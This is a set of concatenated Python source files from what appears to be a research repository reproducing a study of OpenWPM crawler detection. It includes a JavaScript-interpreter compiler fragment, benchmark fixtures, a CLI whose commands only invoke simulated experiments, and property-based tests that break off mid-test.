                    value = rt.apply_binary(binary_op, current,
                                            value_expr(rt, scope))
                else:
                    value = value_expr(rt, scope)
                rt._assign_identifier(name, value, scope)
                return value
            return run

        if isinstance(target, ast.MemberExpression):
            obj_expr = self._expr(target.object)
            computed = target.computed
            prop = self._expr(target.property) if computed else None
            static_name = None if computed else target.property

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                if compound:
                    # Read evaluates object+key once...
                    obj = obj_expr(rt, scope)
                    if computed:
                        key = prop(rt, scope)
                        name = key if type(key) is str \
                            else rt.to_string(key)
                    else:
                        name = static_name
                    if isinstance(obj, JSObject):
                        current = obj.get(name, rt)
                        hook = rt.access_hook
                        if hook is not None:
                            hook("get", obj, name, current)
                    else:
                        current = rt.get_member(obj, name)
                    value = rt.apply_binary(binary_op, current,
                                            value_expr(rt, scope))
                else:
                    value = value_expr(rt, scope)
                # ...and _write_target evaluates them (again).
                obj = obj_expr(rt, scope)
                if computed:
                    key = prop(rt, scope)
                    name = key if type(key) is str else rt.to_string(key)
                else:
                    name = static_name
                if isinstance(obj, JSObject):
                    hook = rt.access_hook
                    if hook is not None:
                        hook("set", obj, name, value)
                    obj.set(name, value, rt)
                else:
                    rt.set_member(obj, name, value)
                return value
            return run

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            if compound:
                rt.throw("SyntaxError", "invalid update target")
            value_expr(rt, scope)
            rt.throw("SyntaxError", "invalid assignment target")
        return run

    def _c_ConditionalExpression(self, node: ast.ConditionalExpression):
        test = self._expr(node.test)
        consequent = self._expr(node.consequent)
        alternate = self._expr(node.alternate)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            if js_truthy(test(rt, scope)):
                return consequent(rt, scope)
            return alternate(rt, scope)
        return run

    def _c_SequenceExpression(self, node: ast.SequenceExpression):
        expressions = tuple(self._expr(e) for e in node.expressions)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            result = UNDEFINED
            for expression in expressions:
                result = expression(rt, scope)
            return result
        return run


_STMT: Dict[type, Any] = {
    ast.ExpressionStatement: _Compiler._c_ExpressionStatement,
    ast.VariableDeclaration: _Compiler._c_VariableDeclaration,
    ast.FunctionDeclaration: _Compiler._c_FunctionDeclaration,
    ast.BlockStatement: _Compiler._c_BlockStatement,
    ast.IfStatement: _Compiler._c_IfStatement,
    ast.WhileStatement: _Compiler._c_WhileStatement,
    ast.DoWhileStatement: _Compiler._c_DoWhileStatement,
    ast.ForStatement: _Compiler._c_ForStatement,
    ast.ForInStatement: _Compiler._c_ForInStatement,
    ast.ReturnStatement: _Compiler._c_ReturnStatement,
    ast.BreakStatement: _Compiler._c_BreakStatement,
    ast.ContinueStatement: _Compiler._c_ContinueStatement,
    ast.ThrowStatement: _Compiler._c_ThrowStatement,
    ast.TryStatement: _Compiler._c_TryStatement,
    ast.SwitchStatement: _Compiler._c_SwitchStatement,
    ast.EmptyStatement: _Compiler._c_EmptyStatement,
}

_EXPR: Dict[type, Any] = {
    ast.NumberLiteral: _Compiler._c_NumberLiteral,
    ast.StringLiteral: _Compiler._c_StringLiteral,
    ast.BooleanLiteral: _Compiler._c_BooleanLiteral,
    ast.NullLiteral: _Compiler._c_NullLiteral,
    ast.UndefinedLiteral: _Compiler._c_UndefinedLiteral,
    ast.ThisExpression: _Compiler._c_ThisExpression,
    ast.Identifier: _Compiler._c_Identifier,
    ast.ArrayLiteral: _Compiler._c_ArrayLiteral,
    ast.ObjectLiteral: _Compiler._c_ObjectLiteral,
    ast.FunctionExpression: _Compiler._c_FunctionExpression,
    ast.MemberExpression: _Compiler._c_MemberExpression,
    ast.CallExpression: _Compiler._c_CallExpression,
    ast.NewExpression: _Compiler._c_NewExpression,
    ast.UnaryExpression: _Compiler._c_UnaryExpression,
    ast.UpdateExpression: _Compiler._c_UpdateExpression,
    ast.BinaryExpression: _Compiler._c_BinaryExpression,
    ast.LogicalExpression: _Compiler._c_LogicalExpression,
    ast.AssignmentExpression: _Compiler._c_AssignmentExpression,
    ast.ConditionalExpression: _Compiler._c_ConditionalExpression,
    ast.SequenceExpression: _Compiler._c_SequenceExpression,
}

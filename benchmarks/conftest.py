"""Shared benchmark fixtures and the results reporter.

The heavy experiment artifacts (synthetic world, scan dataset, paired
crawl) are built once per session and shared by every bench. Scale is
controlled by the ``REPRO_BENCH_SITES`` environment variable (default
2000; the paper's full scale of 100000 works but takes hours).

Every bench writes its reproduced table/figure to
``benchmarks/results/<name>.md`` so the numbers survive the run.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"
BENCH_SITES = int(os.environ.get("REPRO_BENCH_SITES", "2000"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "7"))


def report(name: str, title: str, lines) -> None:
    """Persist one bench's reproduced table and echo it."""
    RESULTS_DIR.mkdir(parents=True, exist_ok=True)
    body = "\n".join(str(line) for line in lines)
    text = f"# {title}\n\n{body}\n"
    (RESULTS_DIR / f"{name}.md").write_text(text)
    print(f"\n=== {title} ===")
    print(body)


def measure_telemetry_overhead(site_count: int = 1000, rounds: int = 3,
                               crash_probability: float = 0.05) -> dict:
    """Wall-clock cost of the telemetry layer on an identical crawl.

    Runs the same lab crawl with telemetry enabled and disabled (the
    null-object path). Rounds are *interleaved* (off, on, off, on, …)
    with a GC pass before each, and each mode keeps its best time — a
    sequential off-then-on protocol lets heap growth across runs
    masquerade as telemetry overhead. Returns seconds for both modes
    plus the relative overhead.
    """
    import gc
    import time

    from repro.obs.runner import run_telemetry_crawl
    from repro.obs.telemetry import Telemetry

    def timed(telemetry_factory) -> float:
        gc.collect()
        start = time.perf_counter()
        result = run_telemetry_crawl(
            site_count=site_count, seed=BENCH_SEED,
            crash_probability=crash_probability,
            telemetry=telemetry_factory())
        elapsed = time.perf_counter() - start
        result.close()
        return elapsed

    timed(Telemetry)  # warm-up, discarded
    on = off = float("inf")
    for _ in range(rounds):
        off = min(off, timed(Telemetry.disabled))
        on = min(on, timed(Telemetry))
    return {"sites": site_count, "rounds": rounds,
            "enabled_seconds": on, "disabled_seconds": off,
            "overhead_pct": (on - off) / off * 100.0 if off else 0.0}


#: Measurement worker for :func:`measure_recorder_overhead`, run in a
#: fresh interpreter per pair. argv: order ("01" = baseline first),
#: site_count, seed, crash_probability. The workload is a synthetic-web
#: crawl with the JS instrument on — the profiler only does work when
#: scripts actually run frames, and the recorder's relative cost is
#: only meaningful against the real per-site work of an instrumented
#: crawl, not the near-empty lab pages.
_RECORDER_WORKER = r'''
import gc, json, shutil, sys, tempfile, time
from repro.obs.runner import run_telemetry_crawl
from repro.obs.telemetry import Telemetry

order, sites, seed, crash_p = (sys.argv[1], int(sys.argv[2]),
                               int(sys.argv[3]), float(sys.argv[4]))

def timed(recorded):
    gc.collect()
    journal_dir = tempfile.mkdtemp(prefix="bench-journal-") \
        if recorded else None
    start = time.process_time()
    result = run_telemetry_crawl(site_count=sites, seed=seed,
                                 crash_probability=crash_p,
                                 web="tranco", js_instrument=True,
                                 telemetry=Telemetry(),
                                 journal_dir=journal_dir,
                                 profile=recorded)
    elapsed = time.process_time() - start
    result.close()
    if journal_dir is not None:
        shutil.rmtree(journal_dir, ignore_errors=True)
    return elapsed

timed(True)  # warm-up, discarded
out = {}
for mode in order:
    recorded = mode == "1"
    out["on" if recorded else "off"] = timed(recorded)
print(json.dumps(out))
'''


def measure_recorder_overhead(site_count: int = 120,
                              min_pairs: int = 5,
                              max_pairs: int = 12,
                              settle_pct: float = 4.0,
                              crash_probability: float = 0.05) -> dict:
    """CPU cost of the flight recorder + profiler on a telemetered
    crawl.

    Both modes run with telemetry *enabled* (that layer's own cost is
    measured separately by :func:`measure_telemetry_overhead`); the
    recorded mode additionally journals every event to disk and runs
    the JS-engine profiler.

    The recorder's true cost is a few percent — smaller than this
    harness's two noise sources, each of which the protocol has to
    defeat explicitly:

    * **In-process drift.** Repeated crawls in one interpreter get
      monotonically slower (the heap grows across runs, so automatic
      generation-2 GC passes inside the timed region get costlier), so
      whichever mode runs later always loses. Each (baseline,
      recorded) pair therefore runs in a *fresh subprocess*, with the
      in-pair order alternating between pairs to cancel what little
      drift two adjacent runs still see.
    * **Shared-host interference.** Co-tenant load only ever *adds*
      CPU time, so the per-mode minimum over pairs converges on the
      true cost from above. Pairs keep launching past ``min_pairs``
      until the estimate settles below ``settle_pct`` or ``max_pairs``
      is exhausted; early settling cannot bias a pass, because if the
      true overhead exceeded the threshold no quiet window could
      produce a minimum below it.
    """
    import json
    import os
    import subprocess
    import sys

    import repro

    env = dict(os.environ)
    src_dir = os.path.dirname(
        os.path.dirname(os.path.abspath(repro.__file__)))
    env["PYTHONPATH"] = src_dir + os.pathsep + env.get("PYTHONPATH", "")

    on = off = float("inf")
    pairs = 0
    for pairs in range(1, max_pairs + 1):
        order = "01" if pairs % 2 else "10"
        proc = subprocess.run(
            [sys.executable, "-c", _RECORDER_WORKER, order,
             str(site_count), str(BENCH_SEED), str(crash_probability)],
            capture_output=True, text=True, env=env, check=True)
        sample = json.loads(proc.stdout.strip().splitlines()[-1])
        off = min(off, sample["off"])
        on = min(on, sample["on"])
        overhead = (on - off) / off * 100.0 if off else 0.0
        if pairs >= min_pairs and overhead < settle_pct:
            break
    return {"sites": site_count, "rounds": pairs,
            "recorded_seconds": on, "baseline_seconds": off,
            "overhead_pct": (on - off) / off * 100.0 if off else 0.0}


@pytest.fixture(scope="session")
def bench_world():
    from repro.web import build_world

    return build_world(site_count=BENCH_SITES, seed=BENCH_SEED)


@pytest.fixture(scope="session")
def bench_scan(bench_world):
    from repro.core.scan import ScanPipeline

    pipeline = ScanPipeline(bench_world, client_id="bench-scan")
    return pipeline.run(visit_subpages=True)


@pytest.fixture(scope="session")
def bench_paired(bench_world):
    from repro.core.comparison import PairedCrawl

    sites = sorted(bench_world.ground_truth.detector_sites())
    crawl = PairedCrawl(bench_world, sites=sites, repetitions=3)
    return crawl.run()


@pytest.fixture(scope="session")
def bench_baseline_templates():
    from repro.browser.profiles import stock_firefox_profile
    from repro.core.fingerprint import capture_template
    from repro.core.lab import make_window

    out = {}
    for os_name in ("ubuntu", "macos"):
        _, window = make_window(stock_firefox_profile(os_name))
        out[os_name] = capture_template(window)
    return out

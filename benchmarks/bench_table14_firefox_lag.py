"""Table 14 / Appx. C: OpenWPM's Firefox version lag (69% outdated)."""

from conftest import report


def test_benchmark_table14(benchmark):
    from repro.literature import (
        OPENWPM_RELEASES,
        outdated_statistics,
    )

    stats = benchmark(outdated_statistics)

    lines = ["| OpenWPM | integrated | Firefox shipped |",
             "|---|---|---|"]
    for release in OPENWPM_RELEASES:
        lines.append(f"| {release.version} | {release.released} | "
                     f"{release.firefox_version} |")
    lines.append("")
    lines.append(f"window: {stats['total_days']} days (paper: 780); "
                 f"outdated: {stats['outdated_days']} days (paper: 540); "
                 f"fraction: {stats['outdated_fraction']:.1%} "
                 f"(paper: 69%)")
    report("table14_firefox_lag",
           "Table 14 - Firefox integration lag", lines)

    assert stats["total_days"] == 780
    assert stats["outdated_days"] == 540
    assert abs(stats["outdated_fraction"] - 0.69) < 0.01

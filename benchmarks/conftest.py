"""Shared benchmark fixtures and the results reporter.

The heavy experiment artifacts (synthetic world, scan dataset, paired
crawl) are built once per session and shared by every bench. Scale is
controlled by the ``REPRO_BENCH_SITES`` environment variable (default
2000; the paper's full scale of 100000 works but takes hours).

Every bench writes its reproduced table/figure to
``benchmarks/results/<name>.md`` so the numbers survive the run.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"
BENCH_SITES = int(os.environ.get("REPRO_BENCH_SITES", "2000"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "7"))


def report(name: str, title: str, lines) -> None:
    """Persist one bench's reproduced table and echo it."""
    RESULTS_DIR.mkdir(parents=True, exist_ok=True)
    body = "\n".join(str(line) for line in lines)
    text = f"# {title}\n\n{body}\n"
    (RESULTS_DIR / f"{name}.md").write_text(text)
    print(f"\n=== {title} ===")
    print(body)


@pytest.fixture(scope="session")
def bench_world():
    from repro.web import build_world

    return build_world(site_count=BENCH_SITES, seed=BENCH_SEED)


@pytest.fixture(scope="session")
def bench_scan(bench_world):
    from repro.core.scan import ScanPipeline

    pipeline = ScanPipeline(bench_world, client_id="bench-scan")
    return pipeline.run(visit_subpages=True)


@pytest.fixture(scope="session")
def bench_paired(bench_world):
    from repro.core.comparison import PairedCrawl

    sites = sorted(bench_world.ground_truth.detector_sites())
    crawl = PairedCrawl(bench_world, sites=sites, repetitions=3)
    return crawl.run()


@pytest.fixture(scope="session")
def bench_baseline_templates():
    from repro.browser.profiles import stock_firefox_profile
    from repro.core.fingerprint import capture_template
    from repro.core.lab import make_window

    out = {}
    for os_name in ("ubuntu", "macos"):
        _, window = make_window(stock_firefox_profile(os_name))
        out[os_name] = capture_template(window)
    return out

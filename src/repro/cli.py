"""Command-line interface: ``python -m repro <command>``.

Commands mirror the paper's experiments:

* ``audit``   — fingerprint surface + detector validation (Sec. 3)
* ``scan``    — the static+dynamic detector scan (Sec. 4)
* ``attack``  — the recording attacks vs vanilla/hardened (Sec. 5/6)
* ``compare`` — the paired WPM vs WPM_hide crawl (Sec. 6.3)
* ``survey``  — the literature datasets (Tables 1 and 14)
* ``stats``   — crawl health / loss-accounting report (telemetry)
* ``crawl``   — scheduled crawl: worker pool, persistent queue, --resume
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional


def _cmd_audit(args: argparse.Namespace) -> int:
    from repro.browser.profiles import openwpm_profile, \
        stock_firefox_profile
    from repro.core.fingerprint import (
        OpenWPMDetector,
        capture_template,
        diff_templates,
        run_probes,
    )
    from repro.core.fingerprint.surface import summarise_setup
    from repro.core.lab import make_window
    from repro.openwpm import BrowserParams, OpenWPMExtension

    _, baseline_window = make_window(stock_firefox_profile(args.os))
    baseline = capture_template(baseline_window)
    extension = OpenWPMExtension(BrowserParams(
        os_name=args.os, display_mode=args.mode)) \
        if not args.no_instrument else None
    _, window = make_window(openwpm_profile(args.os, args.mode),
                            extension=extension)
    surface = diff_templates(baseline, capture_template(window))
    probes = run_probes(window)
    summary = summarise_setup(f"{args.os}/{args.mode}", surface,
                              probes.values)
    report = OpenWPMDetector().test_window(window)
    print(json.dumps({
        "setup": summary.setup,
        "webdriver": summary.webdriver,
        "webgl_deviations": summary.webgl_deviations,
        "language_additions": summary.language_additions,
        "tampered_properties": summary.tampering,
        "custom_functions": summary.custom_functions,
        "detected": report.is_openwpm,
        "matched_rules": report.matched_descriptions(),
    }, indent=2))
    return 0


def _cmd_scan(args: argparse.Namespace) -> int:
    from repro.core.scan import ScanPipeline
    from repro.web import build_world

    if args.resume and args.queue == ":memory:":
        print("error: --resume needs a file-backed queue (pass --queue)",
              file=sys.stderr)
        return 2
    web = build_world(site_count=args.sites, seed=args.seed)
    pipeline = ScanPipeline(web)
    dataset = pipeline.run(visit_subpages=not args.front_only,
                           workers=args.workers,
                           queue_path=args.queue, resume=args.resume)
    output = {
        "sites": dataset.visited_sites,
        "table5": dataset.table5(),
        "table11": dataset.table11(),
        "fig4": dataset.fig4(),
        "table7": dataset.table7(10),
        "table12": dataset.table12(),
        "openwpm_probe_sites": dataset.openwpm_probe_site_count(),
        "corpus": dataset.corpus.stats(),
    }
    print(json.dumps(output, indent=2))
    return 0


def _cmd_attack(args: argparse.Namespace) -> int:
    from repro.core.attacks import (
        run_block_recording_attack,
        run_csp_blocking_attack,
        run_fake_injection_attack,
        run_iframe_bypass_attack,
        run_silent_delivery_attack,
        run_sql_injection_probe,
    )

    attacks = {
        "block-recording": run_block_recording_attack,
        "fake-injection": run_fake_injection_attack,
        "csp-blocking": run_csp_blocking_attack,
        "iframe-bypass": run_iframe_bypass_attack,
        "silent-delivery": run_silent_delivery_attack,
    }
    out = {}
    for name, attack in attacks.items():
        out[name] = {
            "vs_wpm": attack(stealth=False).succeeded,
            "vs_wpm_hide": attack(stealth=True).succeeded,
        }
    out["sql-injection"] = {
        "database_corrupted": run_sql_injection_probe().succeeded}
    print(json.dumps(out, indent=2))
    return 0


def _cmd_compare(args: argparse.Namespace) -> int:
    from repro.core.comparison import PairedCrawl
    from repro.web import build_world

    web = build_world(site_count=args.sites, seed=args.seed)
    sites = sorted(web.ground_truth.detector_sites())
    result = PairedCrawl(web, sites=sites,
                         repetitions=args.repetitions).run()
    print(json.dumps({
        "detector_sites": len(sites),
        "table8_r1": result.table8(0),
        "csp_report_reduction_pct": result.csp_report_reduction(0),
        "table9": result.table9(),
        "table10": result.table10(),
        "cookie_wilcoxon_p": result.cookie_significance(0).p_value,
        "fig6_top": result.fig6(0)[:10],
    }, indent=2))
    return 0


def _cmd_stats(args: argparse.Namespace) -> int:
    from repro.obs.export import metrics_to_prometheus, snapshot_to_json
    from repro.obs.stats import build_crawl_report, render_crawl_report

    result = None
    if args.db is not None and not args.fresh:
        from repro.openwpm.storage import StorageController

        storage = StorageController(args.db)
        cleanup = storage.close
    else:
        from repro.obs.runner import run_telemetry_crawl

        result = run_telemetry_crawl(
            site_count=args.sites, seed=args.seed,
            database_path=args.db or ":memory:",
            crash_probability=args.crash_probability,
            browsers=args.browsers,
            js_instrument=args.js_instrument,
            web="tranco" if args.tranco else "lab")
        storage = result.storage
        cleanup = result.close

    queue = None
    corpus = None
    try:
        if args.queue is not None:
            from repro.sched import JobQueue

            queue = JobQueue(args.queue)
        if args.corpus is not None:
            from repro.corpus import ScriptCorpus

            corpus = ScriptCorpus(args.corpus)
        report = build_crawl_report(storage, queue=queue, corpus=corpus)
        if args.json:
            print(snapshot_to_json(report))
        elif args.prometheus:
            print(metrics_to_prometheus(storage.telemetry_metrics()))
        else:
            print(render_crawl_report(report))
        return 0 if report["reconciled"] or not report["reconciliation"] \
            else 1
    finally:
        if queue is not None:
            queue.close()
        if corpus is not None:
            corpus.close()
        cleanup()


def _site_list(spec: str) -> "tuple[int, list | None]":
    """``--sites`` is a count, or a path to a file of URLs."""
    try:
        return int(spec), None
    except ValueError:
        pass
    with open(spec) as handle:
        urls = [line.strip() for line in handle
                if line.strip() and not line.lstrip().startswith("#")]
    return len(urls), urls


def _cmd_crawl(args: argparse.Namespace) -> int:
    from repro.obs.runner import run_telemetry_crawl

    if args.workers < 1:
        print("error: --workers must be >= 1", file=sys.stderr)
        return 2
    try:
        site_count, urls = _site_list(args.sites)
    except OSError as exc:
        print(f"error: --sites file unreadable: {exc}", file=sys.stderr)
        return 2
    queue_path = args.queue
    if queue_path is None:
        queue_path = ":memory:" if args.db == ":memory:" \
            else f"{args.db}.queue"
    if args.resume and queue_path == ":memory:":
        print("error: --resume needs a file-backed queue "
              "(pass --db or --queue)", file=sys.stderr)
        return 2
    fault_plan = None
    if args.fault_plan is not None:
        from repro.faults import FaultPlan

        try:
            fault_plan = FaultPlan.from_json_file(args.fault_plan)
        except (OSError, ValueError) as exc:
            print(f"error: --fault-plan unreadable: {exc}",
                  file=sys.stderr)
            return 2

    result = run_telemetry_crawl(
        site_count=site_count, seed=args.seed,
        database_path=args.db,
        crash_probability=args.crash_probability,
        browsers=args.workers, dwell=args.dwell,
        web=args.web, urls=urls,
        workers=args.workers, queue_path=queue_path,
        resume=args.resume, stop_after_jobs=args.stop_after,
        fault_plan=fault_plan,
        stage_deadline=args.stage_deadline,
        quarantine_after=args.quarantine_after)
    report = result.report
    try:
        payload = {
            "sites": site_count,
            "workers": report.workers,
            "queue": queue_path,
            "resumed": args.resume,
            "released_leases": report.released_leases,
            "completed": report.completed,
            "failed": report.failed,
            "retried": report.retried,
            "reclaimed": report.reclaimed,
            "worker_deaths": report.worker_deaths,
            "lease_lost": report.lease_lost,
            "interrupted": report.interrupted,
            "queue_counts": report.counts,
            "drained": report.drained,
        }
        if args.json:
            print(json.dumps(payload, indent=2))
        else:
            print(f"crawl: {report.completed} completed, "
                  f"{report.failed} failed, {report.retried} retried "
                  f"on {report.workers} worker(s)")
            print("queue: " + ", ".join(
                f"{state}={count}"
                for state, count in sorted(report.counts.items())))
            if not report.drained:
                print(f"queue not drained — rerun with --resume "
                      f"--queue {queue_path} to finish")
        return 0 if report.drained else 1
    finally:
        result.close()


def _cmd_survey(args: argparse.Namespace) -> int:
    from repro.literature import outdated_statistics, summarise_studies

    print(json.dumps({
        "table1": summarise_studies(),
        "table14": outdated_statistics(),
    }, indent=2))
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro", description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)

    audit = sub.add_parser("audit", help="fingerprint surface (Sec. 3)")
    audit.add_argument("--os", choices=["ubuntu", "macos"],
                       default="ubuntu")
    audit.add_argument("--mode", choices=["regular", "headless", "xvfb",
                                          "docker"], default="regular")
    audit.add_argument("--no-instrument", action="store_true",
                       help="audit without the JS instrument")
    audit.set_defaults(fn=_cmd_audit)

    scan = sub.add_parser("scan", help="detector scan (Sec. 4)")
    scan.add_argument("--sites", type=int, default=500)
    scan.add_argument("--seed", type=int, default=7)
    scan.add_argument("--front-only", action="store_true")
    scan.add_argument("--workers", type=int, default=1,
                      help="scan worker threads (one browser each)")
    scan.add_argument("--queue", default=":memory:",
                      help="queue database path; evidence and the "
                           "script corpus persist to <queue>.scan / "
                           "<queue>.corpus sidecars")
    scan.add_argument("--resume", action="store_true",
                      help="reopen the queue and scan only the "
                           "remainder (needs --queue)")
    scan.set_defaults(fn=_cmd_scan)

    attack = sub.add_parser("attack", help="recording attacks (Sec. 5)")
    attack.set_defaults(fn=_cmd_attack)

    compare = sub.add_parser("compare",
                             help="WPM vs WPM_hide crawl (Sec. 6.3)")
    compare.add_argument("--sites", type=int, default=400)
    compare.add_argument("--seed", type=int, default=7)
    compare.add_argument("--repetitions", type=int, default=3)
    compare.set_defaults(fn=_cmd_compare)

    survey = sub.add_parser("survey",
                            help="literature datasets (Tables 1/14)")
    survey.set_defaults(fn=_cmd_survey)

    stats = sub.add_parser(
        "stats", help="crawl health / loss-accounting report")
    stats.add_argument("--db", default=None,
                       help="existing crawl database to report on "
                            "(default: run a fresh instrumented crawl)")
    stats.add_argument("--fresh", action="store_true",
                       help="crawl into --db even if it exists")
    stats.add_argument("--sites", type=int, default=1000)
    stats.add_argument("--seed", type=int, default=7)
    stats.add_argument("--crash-probability", type=float, default=0.05)
    stats.add_argument("--browsers", type=int, default=2)
    stats.add_argument("--js-instrument", action="store_true",
                       help="enable the JS instrument on the fresh crawl")
    stats.add_argument("--tranco", action="store_true",
                       help="crawl the synthetic Tranco web instead of "
                            "the lab site")
    stats.add_argument("--json", action="store_true",
                       help="emit the report as JSON")
    stats.add_argument("--prometheus", action="store_true",
                       help="emit metrics in Prometheus text format")
    stats.add_argument("--queue", default=None,
                       help="scheduler queue database to reconcile "
                            "against the crawl data")
    stats.add_argument("--corpus", default=None,
                       help="script-corpus database (<queue>.corpus) "
                            "to report dedup / cache effectiveness on")
    stats.set_defaults(fn=_cmd_stats)

    crawl = sub.add_parser(
        "crawl", help="scheduled crawl (worker pool + resumable queue)")
    crawl.add_argument("--sites", default="200",
                       help="site count, or a path to a file of URLs "
                            "(one per line)")
    crawl.add_argument("--workers", type=int, default=4,
                       help="worker threads, one browser slot each")
    crawl.add_argument("--db", default=":memory:",
                       help="crawl database path")
    crawl.add_argument("--queue", default=None,
                       help="queue database path "
                            "(default: <db>.queue, or in-memory)")
    crawl.add_argument("--resume", action="store_true",
                       help="reopen the queue and crawl only the "
                            "remainder")
    crawl.add_argument("--stop-after", type=int, default=None,
                       help="stop gracefully after N jobs finish "
                            "(for testing interruption)")
    crawl.add_argument("--web", choices=["lab", "tranco"], default="lab")
    crawl.add_argument("--seed", type=int, default=7)
    crawl.add_argument("--crash-probability", type=float, default=0.05)
    crawl.add_argument("--dwell", type=float, default=1.0)
    crawl.add_argument("--fault-plan", default=None, metavar="PATH",
                       help="JSON fault plan to inject (chaos testing); "
                            "see repro.faults.FaultPlan")
    crawl.add_argument("--stage-deadline", type=float, default=None,
                       metavar="SECONDS",
                       help="watchdog deadline per visit stage "
                            "(virtual seconds); hung visits are aborted "
                            "and the browser slot restarted")
    crawl.add_argument("--quarantine-after", type=int, default=None,
                       metavar="N",
                       help="quarantine a site after N crash/hang "
                            "failures (circuit breaker)")
    crawl.add_argument("--json", action="store_true",
                       help="emit the crawl report as JSON")
    crawl.set_defaults(fn=_cmd_crawl)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.fn(args)


if __name__ == "__main__":
    sys.exit(main())

"""Property-based tests (hypothesis) on core data structures and
invariants."""

import json
import math
import string

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.browser.cookies import CookieJar
from repro.core.comparison.cookies import ratcliff_obershelp
from repro.core.scan.static_analysis import deobfuscate
from repro.jsengine.builtins import Realm, js_to_python, python_to_js
from repro.jsengine.interpreter import Interpreter
from repro.jsengine.lexer import Lexer
from repro.jsobject.values import (
    format_number,
    js_equals,
    js_strict_equals,
    to_number,
)
from repro.net.http import SetCookie
from repro.net.url import URL, etld_plus_one, same_site

identifiers = st.text(alphabet=string.ascii_lowercase, min_size=1,
                      max_size=8)
js_numbers = st.floats(allow_nan=False, allow_infinity=False,
                       min_value=-1e9, max_value=1e9)


def fresh_interp():
    import random

    return Interpreter(Realm(random.Random(0)))


class TestNumberProperties:
    @given(st.integers(min_value=-10**15, max_value=10**15))
    def test_integral_numbers_format_without_point(self, n):
        assert format_number(float(n)) == str(n)

    @given(js_numbers)
    def test_tostring_tonumber_roundtrip(self, x):
        assert to_number(format_number(x)) == float(format_number(x)) \
            or abs(to_number(format_number(x)) - x) < 1e-6

    @given(js_numbers, js_numbers)
    def test_strict_equality_matches_float_equality(self, a, b):
        assert js_strict_equals(a, b) == (a == b)

    @given(js_numbers)
    def test_loose_equality_reflexive_for_numbers(self, x):
        assert js_equals(x, x)


class TestInterpreterArithmetic:
    @given(st.integers(min_value=-10**6, max_value=10**6),
           st.integers(min_value=-10**6, max_value=10**6))
    @settings(max_examples=30, deadline=None)
    def test_addition_matches_python(self, a, b):
        assert fresh_interp().run(f"{a} + {b}") == float(a + b)

    @given(st.integers(min_value=-1000, max_value=1000),
           st.integers(min_value=-1000, max_value=1000))
    @settings(max_examples=30, deadline=None)
    def test_comparison_matches_python(self, a, b):
        interp = fresh_interp()
        assert interp.run(f"{a} < {b}") == (a < b)
        assert interp.run(f"{a} === {b}") == (a == b)

    @given(st.integers(min_value=-2**31, max_value=2**31 - 1),
           st.integers(min_value=-2**31, max_value=2**31 - 1))
    @settings(max_examples=30, deadline=None)
    def test_bitwise_and_matches_python(self, a, b):
        assert fresh_interp().run(f"{a} & {b}") == float(a & b)


class TestLexerProperties:
    @given(st.text(alphabet=string.ascii_letters + string.digits + " _",
                   max_size=40))
    @settings(max_examples=50)
    def test_string_literal_roundtrip(self, text):
        tokens = Lexer(json.dumps(text)).tokenize()
        assert tokens[0].kind == "string"
        assert tokens[0].value == text

    @given(identifiers)
    def test_identifier_roundtrip(self, name):
        tokens = Lexer(name).tokenize()
        assert tokens[0].value == name

    @given(st.text(max_size=60))
    @settings(max_examples=60)
    def test_lexer_never_hangs_or_crashes_unexpectedly(self, source):
        from repro.jsengine.lexer import LexError

        try:
            Lexer(source).tokenize()
        except LexError:
            pass  # rejection is fine; crashes/hangs are not


class TestJSONBridge:
    json_values = st.recursive(
        st.none() | st.booleans() | js_numbers
        | st.text(max_size=12),
        lambda children: st.lists(children, max_size=4)
        | st.dictionaries(identifiers, children, max_size=4),
        max_leaves=12)

    @given(json_values)
    @settings(max_examples=60, deadline=None)
    def test_python_js_python_roundtrip(self, data):
        import random

        realm = Realm(random.Random(0))
        restored = js_to_python(python_to_js(data, realm))
        assert json.loads(json.dumps(restored)) == json.loads(
            json.dumps(self._normalise(data)))

    @staticmethod
    def _normalise(data):
        if isinstance(data, float) and data.is_integer():
            return int(data)
        if isinstance(data, list):
            return [TestJSONBridge._normalise(v) for v in data]
        if isinstance(data, dict):
            return {k: TestJSONBridge._normalise(v)
                    for k, v in data.items()}
        return data


class TestURLProperties:
    hosts = st.lists(identifiers, min_size=1, max_size=4).map(
        lambda labels: ".".join(labels) + ".com")

    @given(hosts)
    def test_etld_is_suffix_of_host(self, host):
        registrable = etld_plus_one(host)
        assert host.endswith(registrable)

    @given(hosts)
    def test_etld_idempotent(self, host):
        assert etld_plus_one(etld_plus_one(host)) == etld_plus_one(host)

    @given(hosts, identifiers)
    def test_subdomain_always_same_site(self, host, label):
        assert same_site(f"{label}.{host}", host)

    @given(hosts, st.sampled_from(["/", "/a", "/a/b"]),
           st.sampled_from(["", "k=v"]))
    def test_url_str_parse_roundtrip(self, host, path, query):
        url = URL(scheme="https", host=host, path=path, query=query)
        assert URL.parse(str(url)) == url


class TestCookieJarProperties:
    @given(st.lists(st.tuples(identifiers, identifiers), min_size=1,
                    max_size=10))
    @settings(max_examples=40)
    def test_jar_size_counts_unique_names(self, pairs):
        jar = CookieJar()
        url = URL.parse("https://site.test/")
        for name, value in pairs:
